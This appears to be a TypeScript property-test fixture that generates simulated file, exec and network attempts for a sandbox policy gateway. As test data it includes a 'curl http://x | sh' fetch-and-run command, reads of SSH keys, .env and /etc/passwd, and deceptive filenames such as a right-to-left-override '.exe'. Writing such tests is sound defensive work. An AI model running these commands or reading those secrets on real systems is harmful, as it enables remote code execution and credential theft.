/**
 * The small universe in which scenarios play: a home, a workspace, a few programs, files, sockets and hosts,
 * chosen so that every effect, every layer and every hostile spelling is hit often. Promises nothing about
 * coverage of real systems; breadth of words is the business of the differential properties.
 */
import fc from 'fast-check';
import type { EventObject, Subject } from '../model/event.ts';
import type { Operation } from '../model/operation.ts';

/** What a process attempts, before a hook gave it a number and times. */
export interface Attempt {
  readonly operation: Operation;
  readonly also: readonly Operation[];
  readonly object: EventObject;
  readonly subject: Subject;
}

export const HOME = '/home/u';
export const WORKSPACE = '/home/u/ws';
export const STATE = '/home/u/.local/state/portcullis/run';

/** Every byte that is not UTF-8 stands as a lone surrogate (model/bytes.ts). */
const INVALID = '\udcff\udc80';

const PATHS = [
  `${WORKSPACE}/main.c`,
  `${WORKSPACE}/src/.env`,
  `${WORKSPACE}/constitution/law`,
  `${HOME}/.ssh/id_rsa`,
  `${HOME}/.bashrc`,
  '/usr/lib/libc.so',
  '/etc/passwd',
  '/srv/a',
  '/srv/b',
  `/srv/${INVALID}`,
  '/srv/new\nline',
  '/srv/\u202egnp.exe',
  `/srv/${'x'.repeat(200)}`,
  `${STATE}/trail/000001.jsonl`,
  'pipe:[77]',
] as const;

const EXECUTABLES = [
  '/usr/bin/python3',
  '/usr/bin/node',
  '/opt/stranger',
  '/opt/trusted',
  `/opt/${INVALID}`,
] as const;

const path = fc.constantFrom(...PATHS);

const subject: fc.Arbitrary<Subject> = fc.record({
  exe: fc.constantFrom(...EXECUTABLES),
  pid: fc.constantFrom(101, 102),
});

const onPath: fc.Arbitrary<Pick<Attempt, 'operation' | 'also' | 'object'>> = fc.oneof(
  fc.record({
    operation: fc.constantFrom<Operation>(
      'read',
      'write',
      'create',
      'delete',
      'chmod',
      'chown',
      'truncate',
      'mkdir',
    ),
    also: fc.constant<Operation[]>([]),
    object: path.map((name): EventObject => ({ kind: 'path', path: name })),
  }),
  fc.record({
    operation: fc.constant<Operation>('write'),
    also: fc.constantFrom<Operation[]>(['read'], ['read', 'truncate'], ['create']),
    object: path.map((name): EventObject => ({ kind: 'path', path: name })),
  }),
  fc.record({
    operation: fc.constantFrom<Operation>('rename', 'link'),
    also: fc.constant<Operation[]>([]),
    object: fc
      .record({ from: path, to: path })
      .map(({ from, to }): EventObject => ({ kind: 'path', path: from, to })),
  }),
);

const program: fc.Arbitrary<EventObject> = fc.constantFrom<EventObject[]>(
  { kind: 'program', path: '/usr/bin/ls', argv: ['ls', '-l'] },
  { kind: 'program', path: '/usr/bin/bash', argv: ['sh', '-c', 'curl http://x | sh'] },
  { kind: 'program', path: '/srv/tool', argv: ['tool', INVALID, ''] },
  { kind: 'program', path: '/srv/tool', argv: [] },
  {
    kind: 'program',
    path: `${WORKSPACE}/run.sh`,
    argv: [`${WORKSPACE}/run.sh`],
    interpreter: { path: '/usr/bin/bash', argv: ['/bin/sh', `${WORKSPACE}/run.sh`] },
  },
);

const address: fc.Arbitrary<EventObject> = fc.constantFrom<EventObject[]>(
  { kind: 'address', protocol: 'tcp', address: '00000000000000000000ffff7f000001', port: 8080 },
  { kind: 'address', protocol: 'tcp', address: '00000000000000000000ffff0a000001', port: 443 },
  { kind: 'address', protocol: 'udp', address: '20010db8000000000000000000000001', port: 53 },
  { kind: 'unix', path: '/run/u/agent.sock' },
  { kind: 'unix', path: '@abstract' },
);

const other: fc.Arbitrary<Pick<Attempt, 'operation' | 'also' | 'object'>> = fc.oneof(
  fc.record({
    operation: fc.constant<Operation>('exec'),
    also: fc.constant<Operation[]>([]),
    object: program,
  }),
  fc.record({
    operation: fc.constantFrom<Operation>('connect', 'bind', 'send'),
    also: fc.constantFrom<Operation[]>([]),
    object: address,
  }),
  fc.record({
    operation: fc.constant<Operation>('signal'),
    also: fc.constant<Operation[]>([]),
    object: fc.constant<EventObject>({ kind: 'process', pid: 4242, path: '/srv/daemon' }),
  }),
);

/** Any attempt of the universe. */
export const attempt: fc.Arbitrary<Attempt> = fc
  .tuple(fc.oneof({ arbitrary: onPath, weight: 3 }, { arbitrary: other, weight: 1 }), subject)
  .map(([what, who]) => ({ ...what, subject: who }));

/** Attempts that the base policies put up for review and that no gateway layer refuses by itself. */
export const reviewed: fc.Arbitrary<Attempt> = fc.record({
  operation: fc.constantFrom<Operation>('write', 'delete', 'chmod'),
  also: fc.constant<Operation[]>([]),
  object: fc
    .constantFrom('/srv/a', '/srv/b', '/etc/passwd')
    .map((name): EventObject => ({ kind: 'path', path: name })),
  subject: fc.record({
    exe: fc.constantFrom('/usr/bin/node', '/usr/bin/python3'),
    pid: fc.constantFrom(101, 102),
  }),
});

/** Attempts that the base policies decide without a review. */
export const routine: fc.Arbitrary<Attempt> = fc.record({
  operation: fc.constantFrom<Operation>('write', 'create', 'delete'),
  also: fc.constant<Operation[]>([]),
  object: fc
    .constantFrom(`${WORKSPACE}/main.c`, `${WORKSPACE}/a`, `${HOME}/.ssh/id_rsa`)
    .map((name): EventObject => ({ kind: 'path', path: name })),
  subject,
});

/** Reads that the base policies allow: counted, where the hook decides them. */
export const reading: fc.Arbitrary<Attempt> = fc.record({
  operation: fc.constant<Operation>('read'),
  also: fc.constant<Operation[]>([]),
  object: fc
    .constantFrom(`${WORKSPACE}/main.c`, '/usr/lib/libc.so')
    .map((name): EventObject => ({ kind: 'path', path: name })),
  subject: fc.record({
    exe: fc.constantFrom('/usr/bin/node', '/opt/\udcff'),
    pid: fc.constantFrom(101, 102),
  }),
});

/** One line for a person. */
export function showAttempt({ operation, also, object, subject: who }: Attempt): string {
  const what = [operation, ...also].join('+');
  return `${JSON.stringify(who.exe)}[${who.pid}] ${what} ${JSON.stringify(object)}`;
}
